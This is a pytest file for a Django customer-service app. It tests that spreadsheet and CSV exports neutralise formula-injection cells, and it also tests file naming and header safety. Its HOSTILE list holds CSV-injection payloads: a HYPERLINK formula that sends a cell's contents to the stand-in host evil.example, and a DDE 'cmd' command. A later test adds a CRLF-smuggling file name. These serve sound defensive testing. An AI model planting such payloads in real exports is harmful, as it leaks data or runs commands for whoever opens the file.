"""Spreadsheets kefu writes hold data, never formulas (OWASP's CSV-injection rule)."""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from kefu.contacts.services import contact_create
from kefu.core.exports import CsvWriter, cell
from kefu.core.models import User
from kefu.customers.services import customer_create

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此")',
    "=1+2+cmd|' /C calc'!A0",
    "=2+3",
    "+2+3",
    "-2+3",
    "@SUM(1+1)",
    "\t=2+3",
    "\r=2+3",
]


def _signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _cells(content: bytes) -> list[Any]:
    book = load_workbook(BytesIO(content))
    return [item for sheet in book.worksheets for row in sheet.iter_rows() for item in row]


def assert_no_formula(content: bytes, expected: list[str]) -> None:
    """No cell is a formula, and each hostile text is there as text behind an apostrophe."""
    found = _cells(content)
    assert [item.coordinate for item in found if item.data_type == "f"] == []
    texts = {item.value for item in found if isinstance(item.value, str)}
    for text in expected:
        assert "'" + text in texts, text
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_beginning_with_a_formula_trigger_becomes_text(text: str) -> None:
    assert cell(text) == "'" + text


def test_numbers_dates_and_plain_text_keep_their_values() -> None:
    day = dt.date(2026, 12, 5)
    moment = dt.datetime(2026, 12, 5, 8, 30)  # noqa: DTZ001 - a spreadsheet's wall clock
    for value in (-5, -2.5, 0, Decimal("-3.10"), True, None, day, moment, "李秀英", "a=b"):
        assert cell(value) == value
    assert cell("-5") == "-5" and cell("+3.25") == "+3.25"  # a number as text calls nothing
    assert cell("-") == "'-"


def test_csv_files_are_neutralised_alike() -> None:
    out = StringIO()
    CsvWriter(out).writerows([["名称", "金额"], ["=2+3", -5], ["@cmd", 1.5]])
    assert out.getvalue().splitlines() == ["名称,金额", "'=2+3,-5", "'@cmd,1.5"]


def test_list_exports_write_names_summaries_and_titles_as_text(
    users: dict[str, User], open_ticket: Callable[..., dict[str, Any]]
) -> None:
    agent = users["agent"]
    person = customer_create(actor=agent, name=HOSTILE[0], phones=["13912345678"])
    contact_create(
        actor=agent,
        channel="hotline",
        started_at=timezone.now() - dt.timedelta(minutes=5),
        customer_id=person.pk,
        summary=HOSTILE[1],
        settled=True,
    )
    open_ticket(title=HOSTILE[2], customer_id=person.pk)
    client = _signed_in(users["backoffice"])

    customers = client.get("/customers/export.xlsx")
    assert_no_formula(customers.content, [HOSTILE[0]])
    contacts = client.get("/contacts/export.xlsx")
    assert_no_formula(contacts.content, [HOSTILE[0], HOSTILE[1]])
    tickets = client.get("/tickets/export.xlsx")
    assert_no_formula(tickets.content, [HOSTILE[0], HOSTILE[2]])


def test_every_writer_of_spreadsheets_goes_through_the_one_neutraliser() -> None:
    """A new export (a customer's data, a report) must use kefu.core.exports, not its own
    openpyxl or csv writer: that is where cells are neutralised."""
    from pathlib import Path

    import kefu

    root = Path(kefu.__file__).parent
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and any(
            word in path.read_text(encoding="utf-8")
            for word in ("Workbook(", "csv.writer", "csv.DictWriter")
        )
    }
    unguarded = {
        name
        for name in writers - {"core/exports.py"}
        if "from kefu.core.exports import" not in (root / name).read_text(encoding="utf-8")
    }
    assert writers and unguarded == set()


def assert_finished(content: bytes) -> None:
    """Every sheet keeps its header row in view and carries filters over its whole table."""
    book = load_workbook(BytesIO(content))
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == sheet.dimensions, sheet.title


def test_every_list_export_names_people_and_files_in_chinese_with_a_fixed_filtered_header(
    users: dict[str, User], open_ticket: Callable[..., dict[str, Any]]
) -> None:
    """Issue 15, point 24: people by name, not user name; Chinese file names
    (RFC 5987 `filename*`, with an ASCII `filename` beside it); a frozen header and filters."""
    from urllib.parse import quote

    from kefu.tickets.models import Ticket

    agent, handler = users["agent"], users["handler"]
    for user, name in ((agent, "王晓婷"), (handler, "孙海涛"), (users["manager"], "周敏")):
        user.full_name = name
        user.save(update_fields=["full_name"])
    person = customer_create(actor=agent, name="李秀英", phones=["13912345678"])
    contact_create(
        actor=agent,
        channel="hotline",
        started_at=timezone.now() - dt.timedelta(minutes=5),
        customer_id=person.pk,
        summary="咨询电费",
        settled=True,
    )
    number = open_ticket(title="电费异常", customer_id=person.pk)["number"]
    Ticket.objects.filter(number=number).update(assignee=handler)
    backoffice, manager = _signed_in(users["backoffice"]), _signed_in(users["manager"])
    today = f"{timezone.localdate():%Y%m%d}"
    downloads = [
        (backoffice.get("/tickets/export.xlsx"), "工单", "work-orders", "孙海涛", "handler"),
        (backoffice.get("/contacts/export.xlsx"), "接触记录", "contacts", "王晓婷", "agent"),
        (backoffice.get("/customers/export.xlsx"), "客户档案", "customers", "李秀英", None),
        (
            manager.get(f"/customers/{person.pk}/personal-data.xlsx"),
            f"个人信息-{person.pk}",
            f"personal-data-{person.pk}",
            "王晓婷",
            "agent",
        ),
    ]
    for response, title, fallback, shown, username in downloads:
        assert response.status_code == 200
        disposition = response["Content-Disposition"]
        assert f'filename="{fallback}-{today}.xlsx"' in disposition
        assert f"filename*=UTF-8''{quote(f'{title}-{today}.xlsx')}" in disposition
        assert_finished(response.content)
        values = {item.value for item in _cells(response.content)}
        assert shown in values
        if username:
            assert username not in values
    as_json = manager.get(f"/customers/{person.pk}/personal-data.json")
    assert (
        f"filename*=UTF-8''{quote(f'个人信息-{person.pk}-{today}.json')}"
        in (as_json["Content-Disposition"])
    )
    copy = json.loads(as_json.content)
    assert copy["exported_by"] == "周敏" and copy["contacts"][0]["agent"] == "王晓婷"


def test_a_file_name_cannot_break_the_header_or_a_folder() -> None:
    from kefu.core.exports import attachment

    header = attachment('日报/"一班"\r\n.xlsx', fallback='daily/"x".xlsx')
    assert "\r" not in header and "\n" not in header
    assert header.startswith("attachment; filename=\"daily_x_.xlsx\"; filename*=UTF-8''")
    assert "%2F" not in header and "%22" not in header
